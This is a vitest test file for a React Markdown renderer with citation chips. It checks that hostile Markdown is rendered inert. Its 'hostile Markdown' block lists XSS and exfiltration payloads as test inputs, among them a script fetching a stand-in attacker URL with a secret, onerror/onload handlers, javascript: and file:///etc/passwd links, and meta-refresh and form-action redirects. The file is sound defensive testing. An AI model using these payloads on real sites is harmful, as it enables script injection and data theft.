import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { CitationContext } from '../citations/citation-context.ts'
import MarkdownText from './markdown-text.tsx'
import type { PlacedCitation } from '../citations/place-citations.ts'

function draw(text: string, placed: readonly PlacedCitation[] = []): string {
  const labels = new Map(placed.map(({ index }) => [index, { number: index + 1, host: 'site.test' }]))
  return renderToStaticMarkup(
    createElement(
      CitationContext,
      { value: { base: 'm', labelOf: (index: number) => labels.get(index) ?? null } },
      createElement(MarkdownText, { text, placed }),
    ),
  )
}

const OURS =
  'div p br hr h4 blockquote ul ol li pre code em strong del a table thead tbody tr th td input sup section span button'.split(
    ' ',
  )
const HARMLESS =
  'class dir data-level tabindex title href target rel type aria-label aria-hidden data-inert-link data-image-chip data-citation checked disabled readonly start'.split(
    ' ',
  )

/** The elements and attributes of drawn HTML, without our own icons. What is written as text carries no `<`. */
function inspect(html: string) {
  const elements = [...html.replace(/<svg xmlns.*?<\/svg>/g, '').matchAll(/<([a-z][\w-]*)([^>]*)>/gi)]
  const attributes = elements.flatMap((one) => [...(one[2] ?? '').matchAll(/([\w-]+)="([^"]*)"/g)])
  return {
    tags: elements.map((one) => one[1]?.toLowerCase() ?? ''),
    attributes: attributes.map((one) => one[1]?.toLowerCase() ?? ''),
    targets: attributes.filter((one) => one[1] === 'href' || one[1] === 'src').map((one) => one[2] ?? ''),
  }
}

const canary = 'https://attacker.test/?q=SECRET'

describe('hostile Markdown', () => {
  test.each([
    `<script>fetch('${canary}')</script>`,
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><image href="https://attacker.test"/></svg>',
    '<math href=javascript:alert(1)>x</math>',
    `<iframe src="${canary}"></iframe><iframe srcdoc="<b>">`,
    `<object data="${canary}"></object><embed src="${canary}">`,
    `<style>@import '${canary}'</style>`,
    `<div style="background:url(${canary})">x</div>`,
    `<link rel=prefetch href="${canary}">`,
    `<meta http-equiv=refresh content="0;url=${canary}">`,
    `<base href="${canary}">`,
    `<form action="${canary}"><button>x</button></form>`,
    `<video poster="${canary}"></video><audio src="${canary}" autoplay></audio>`,
    '<!-- open',
    '<![CDATA[ open',
    '<plaintext>',
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    '<a id=root name=root>x</a>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    `![](${canary})`,
    `![a][r]\n\n[r]: ${canary}`,
    '[t](javascript:alert(1))',
    '[t](JaVaScRiPt:alert(1))',
    '[t](java&#9;script:alert(1))',
    '[t](javascript&colon;alert(1))',
    '[t](<data:text/html,x>)',
    '[t](vbscript:x) [t](file:///etc/passwd) [t](blob:https://a/b)',
    '[t](//attacker.test) [t](/\\\\attacker.test)',
    '```"><img src=x>\ncode\n```',
    '```html\n<img src=x>\n```',
    '[^1]\n\n[^1]: loop [^1]\n\n# <b id=x>',
    '$\\href{javascript:alert(1)}{x}$',
  ])('%j loads nothing, runs nothing and names nothing', (text) => {
    const { tags, attributes, targets } = inspect(draw(text))
    expect(tags.filter((tag) => !OURS.includes(tag))).toEqual([])
    expect(attributes.filter((name) => !HARMLESS.includes(name))).toEqual([])
    expect(targets.filter((target) => !/^(?:https?:\/\/|mailto:)/.test(target))).toEqual([])
  })

  test('raw HTML stays readable as text', () => {
    expect(draw('a <b>bold</b> word')).toContain('&lt;b&gt;bold&lt;/b&gt;')
  })

  test('a picture becomes a chip with its host', () => {
    expect(draw(`![the plan](${canary})`)).toContain('image: attacker.test — not loaded')
  })

  test('a link says where it leads when its words do not', () => {
    const html = draw('[https://openai.com](https://evil.test/x)')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('>evil.test</span>')
  })

  test('hidden characters are written out, in code as well', () => {
    expect(draw('a\u202eb `c\u200bd`')).toMatch(/a⟨U\+202E⟩b.*c⟨U\+200B⟩d/)
  })
})

const around = (text: string, end: number) => {
  const html = draw(text, [{ index: 0, start: 0, end }])
  expect(html.match(/data-citation="1"/g)).toHaveLength(1)
  const plain = html.replace(/<button[^>]*>1<\/button>/, '⟦1⟧').replace(/<[^>]+>/g, '')
  return plain
}

const numbered = (text: string) =>
  renderToStaticMarkup(
    createElement(
      CitationContext,
      { value: { base: 'm', labelOf: () => null } },
      createElement(MarkdownText, { text, placed: [], numbers: 2 }),
    ),
  )

describe('numbers of sources inside Markdown', () => {
  test('each number that has a source leads there, and reads as it was written', () => {
    const html = numbered('The sky is blue[1][2]. **So[2]** [3] [0]')
    expect(html.match(/data-chip="m-number-[01]"/g)).toHaveLength(3)
    expect(html.replaceAll(/<[^>]+>/g, '')).toBe('The sky is blue[1][2]. So[2] [3] [0]')
  })

  test('code and links keep their numbers to themselves', () => {
    expect(numbered('`a[1]` [b[1]](https://x.test)')).not.toContain('data-chip')
  })
})

describe('citations inside Markdown', () => {
  test.each([
    ['Trains run. Yes.', 11, 'Trains run.⟦1⟧ Yes.'],
    ['See ([a](https://site.test/a)). Yes', 30, 'See (asite.test)⟦1⟧. Yes'],
    ['See [a](https://site.test/a) yes', 10, 'See asite.test⟦1⟧ yes'],
    ['**bold** rest', 6, 'bold⟦1⟧ rest'],
    ['**bold** rest', 1, '⟦1⟧bold rest'],
    ['a &amp; b', 4, 'a &amp; b⟦1⟧'],
    ['- one\n- two', 5, 'one⟦1⟧two'],
    ['text', 4, 'text⟦1⟧'],
    ['`code` after', 3, 'code⟦1⟧ after'],
  ])('%j at %i', (text, end, shown) => {
    expect(around(text, end)).toBe(shown)
  })

  test.each(['```\ncode\n```', '---', '| a |\n|---|\n| b |', '> q\n> r', '\n\n', '<div>x</div>', '# '])(
    'every offset of %j has a place',
    (text) => {
      for (let end = 1; end <= text.length; end += 1)
        expect(() => draw(text, [{ index: 0, start: 0, end }])).not.toThrow()
    },
  )

  test('a thousand citations are all there', () => {
    const text = 'word '.repeat(1000)
    const placed = Array.from({ length: 1000 }, (_, index) => ({ index, start: index * 5, end: index * 5 + 4 }))
    expect(draw(text, placed).match(/data-citation=/g)).toHaveLength(1000)
  })
})
